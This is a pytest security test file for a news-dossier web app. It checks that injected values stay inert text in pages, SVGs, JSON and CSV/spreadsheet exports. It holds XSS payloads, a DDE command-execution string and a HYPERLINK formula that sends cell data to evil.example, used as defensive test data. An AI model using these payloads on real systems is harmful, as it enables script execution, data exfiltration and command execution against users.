"""A page that tries what a page can: in every view, answer and file it is text, and nothing else."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import httpx
import pytest
from lxml import html

from seuil.dossier import Dossier
from seuil.export.formats import FORMATS
from seuil.page.formats.model import Given, Item
from seuil.web.settings import Settings
from tests.web.routes import filled, paths
from tests.web.server import serving

SCRIPT = "<script>window.pwned=1;alert(1)</script>"
MARKUP = '"><img src=x onerror="window.pwned=2;alert(2)"><svg onload="alert(3)"></svg><b class="injected">'
ENDS = "</title></script></textarea><iframe src='javascript:alert(4)'></iframe>"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
FORMULAS = (LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1")
ORDER = "\u202egnp.exe\u202c \u2066abc\u2069 \u200f"
# Signs that turn the order of what stands around them.
TURNING = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?(e[+-]?\d+)?( \| [+-]?\d+(\.\d+)?)*")


# What is asked besides of an address that holds one of these words.
ASKED = {
    "plots": "?download=1", "timeline": "?text=missiles", "events": "?text=missiles",
    "compare": "?new=rus-2024&old=rus-2020",
}  # fmt: skip


def hostile_pages() -> list[Item]:
    """Pages whose title, outlet, address and name in the record try something; each tells an event."""
    found = []
    for number, formula in enumerate(FORMULAS):
        text = (
            f"{formula} {SCRIPT}\n\nOn 1{number} November 2024 France authorised {MARKUP} Kyiv to strike "
            f"Russia with missiles, {ORDER} the spokesman of {SCRIPT} said.\n\n{formula} Moscow condemned "
            f"the strike on Kursk on 1{number} November 2024, «{MARKUP}», {ORDER} the agency said.\n\n"
            "Russia launched a missile at Dnipro, officials said. Moscow warned that NATO would be at war."
        )
        found.append(
            Item(
                source=f"{formula}{MARKUP}{ORDER}{number}.txt",
                content=text.encode(),
                media_type="text/plain",
                url=f"https://evil.example/{SCRIPT}{ORDER}?={formula}",
                given=Given(
                    title=f"{formula} {ENDS} {ORDER}",
                    outlet=f"{formula}{MARKUP}{ORDER}\0",
                    published="2024-11-20",
                    language="en",
                    authors=(f"{formula}{SCRIPT}",),
                ),
            )
        )
    marked = (
        f"<html><head><title>{SCRIPT}&lt;script&gt;alert(5)&lt;/script&gt; {ORDER}</title></head>"
        "<body><article>"
        f"<h1>&lt;img src=x onerror=alert(6)&gt; {ORDER}</h1><p>On 20 November 2024 &lt;script&gt;alert(7)"
        f"&lt;/script&gt; &#0; France authorised Kyiv to strike Russia, {ORDER} the president said on "
        "Wednesday in Paris.</p><p>Moscow condemned the decision and said that it would answer it.</p>"
        "</article></body></html>"
    )
    found.append(Item(source="marked.html", content=marked.encode(), media_type="text/html"))
    # A text of two bytes a character may hold a zero; as one of single bytes it would be no text.
    zeros = f"The \0 strike\n\nOn 21 November 2024 \0 Russia launched \0{SCRIPT} a missile, Kyiv said."
    found.append(Item(source="zeros.txt", content=zeros.encode("utf-16")))
    return found


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> str:
    """A server over a dossier of these pages, with a correction that tries the same."""
    file = tmp_path_factory.mktemp("hostile") / "hostile.db"
    with Dossier(file) as dossier:
        report = dossier.add(hostile_pages())
        assert (report.added, report.failures) == (len(FORMULAS) + 2, ())
    with serving(Settings(dossier=str(file))) as where:
        event = httpx.get(f"{where}/api/v1/events", timeout=60).json()["items"][0]
        kept = {
            "kind": "accept", "mentions": event["mentions"][:1],
            "by": f"{FORMULAS[0]}{MARKUP}", "reason": f"{FORMULAS[1]}{SCRIPT}{ORDER}",
        }  # fmt: skip
        assert httpx.post(f"{where}/api/v1/corrections", json=kept, timeout=60).status_code == 201
        yield where


@pytest.fixture(scope="module")
def answers(hostile) -> dict[str, httpx.Response]:
    """Every address that answers, whatever stands in its braces, with its answer."""
    with httpx.Client(base_url=hostile, timeout=60) as client:
        events = client.get("/api/v1/events", params={"limit": 2}).json()["items"]
        pages = client.get("/api/v1/pages").json()["items"]
        values = [*(event["id"] for event in events), *(page["key"] for page in pages[:2]), "rus-2024", "1"]
        values += [*FORMATS, "svg", "png", "json", "csv", "xlsx", "html", "jsonl", "yaml", "text"]
        found = {}
        for path in paths("GET"):
            for address in filled(path, list(dict.fromkeys(values))):
                for asked in ("", *(query for part, query in ASKED.items() if part in path)):
                    answer = client.get(f"{address}{asked}")
                    if answer.status_code == 200:
                        found[f"{address}{asked}"] = answer
                    elif asked == "":
                        break
    return found


def of_kind(answers: dict[str, httpx.Response], *kinds: str) -> dict[str, httpx.Response]:
    return {at: it for at, it in answers.items() if it.headers["content-type"].startswith(kinds)}


def must_be_text(at: str, source: str, *, ours: tuple[str, ...] = ("/static/",)) -> None:
    """Nothing runs, nothing is loaded from elsewhere, no element is there that we did not write."""
    assert not TURNING.search(source), f"{at}: turns the order of what is read"
    assert "\0" not in source, at
    tree = html.document_fromstring(source.encode(), parser=html.HTMLParser(encoding="utf-8"))
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        assert element.tag not in ("iframe", "object", "embed", "base"), f"{at}: {element.tag}"
        assert element.get("class") != "injected", at
        if element.tag == "script":
            assert (element.get("src") or "").startswith(ours) and not element.text, f"{at}: a script"
        for name, value in element.attrib.items():
            assert not name.startswith("on"), f"{at}: {name}"
            if name in ("href", "src", "action", "formaction", "srcset", "hx-get", "hx-post"):
                assert not re.match(r"\s*(javascript|data:text|vbscript)", value, re.I), f"{at}: {value}"


def test_the_pages_are_found_everywhere(answers):
    told = [at for at, it in answers.items() if at.startswith("/api/v1/") and SCRIPT in it.text]
    assert {"/api/v1/pages", "/api/v1/corrections"} <= set(told)
    assert any(at.endswith("/brief") for at in told) and "/api/v1/export/html" in answers
    if "/pages" in paths("GET"):
        assert "&lt;script&gt;window.pwned=1" in answers["/pages"].text


def test_pages_show_it_as_text(answers):
    for at, answer in of_kind(answers, "text/html").items():
        must_be_text(at, answer.text)


def test_pictures_hold_no_script(answers):
    found = of_kind(answers, "image/svg+xml")
    assert found
    for at, answer in found.items():
        must_be_text(at, answer.text, ours=())


def test_json_is_json_and_is_not_taken_for_a_page(answers):
    for at, answer in of_kind(answers, "application/json").items():
        for line in answer.text.splitlines() if "jsonl" in answer.headers["content-type"] else [answer.text]:
            json.loads(line)
        assert answer.headers["x-content-type-options"] == "nosniff", at


def files_of(answer: httpx.Response) -> dict[str, bytes]:
    """What a download holds, by name."""
    if answer.content.startswith(b"PK") and "spreadsheet" not in answer.headers["content-type"]:
        archive = zipfile.ZipFile(io.BytesIO(answer.content))
        return {name: archive.read(name) for name in archive.namelist()}
    name = re.search('filename="([^"]*)"', answer.headers.get("content-disposition", "")) or ["", ""]
    return {name[1]: answer.content}


def must_be_no_formula(at: str, cell: str) -> None:
    bare = cell.lstrip(" ")
    begins = bare.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert not begins or NUMBER.fullmatch(bare), f"{at}: {cell[:80]!r}"
    assert not TURNING.search(cell) and "\0" not in cell, f"{at}: {cell[:80]!r}"


def test_no_cell_of_a_table_is_a_formula(answers):
    seen = 0
    for at, answer in answers.items():
        for name, content in files_of(answer).items():
            if name.endswith((".csv", ".tsv")):
                between = "," if name.endswith("csv") else "\t"
                for row in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=between):
                    for cell in row:
                        seen += 1
                        must_be_no_formula(f"{at} {name}", cell)
    assert seen > 500


def test_no_cell_of_a_spreadsheet_is_a_formula(answers):
    openpyxl = pytest.importorskip("openpyxl")
    books = of_kind(answers, "application/vnd.openxmlformats-officedocument.spreadsheetml")
    assert books
    for at, answer in books.items():
        for sheet in openpyxl.load_workbook(io.BytesIO(answer.content)):
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{at}: {cell.value!r}"
                    if isinstance(cell.value, str):
                        must_be_no_formula(at, cell.value)


def test_nothing_runs_in_a_browser(answers, hostile, chromium, tmp_path):
    context = chromium.new_context()
    page, dialogs = context.new_page(), []

    def dismissed(dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismissed)
    elsewhere = []
    page.on("request", lambda asked: elsewhere.append(asked.url) if "evil.example" in asked.url else None)

    def visit(address: str) -> None:
        page.goto(address, wait_until="load")
        found = page.evaluate(
            "[window.pwned ?? 0, document.querySelectorAll("
            "'.injected, iframe, [onerror], [onload], img[src=x]').length]"
        )
        assert (found, dialogs, elsewhere) == ([0, 0], [], []), address

    pages = of_kind(answers, "text/html")
    shown = [at for at, it in pages.items() if "content-disposition" not in it.headers]
    for at in shown[:60]:
        visit(f"{hostile}{at}")
    for at in list(of_kind(answers, "image/svg+xml"))[:10]:
        if "download" not in at:
            visit(f"{hostile}{at}")
    saved = [it for it in pages.values() if "content-disposition" in it.headers]
    for number, answer in enumerate(saved[:10]):
        file = tmp_path / f"{number}.html"
        file.write_bytes(answer.content)
        visit(file.as_uri())
    context.close()
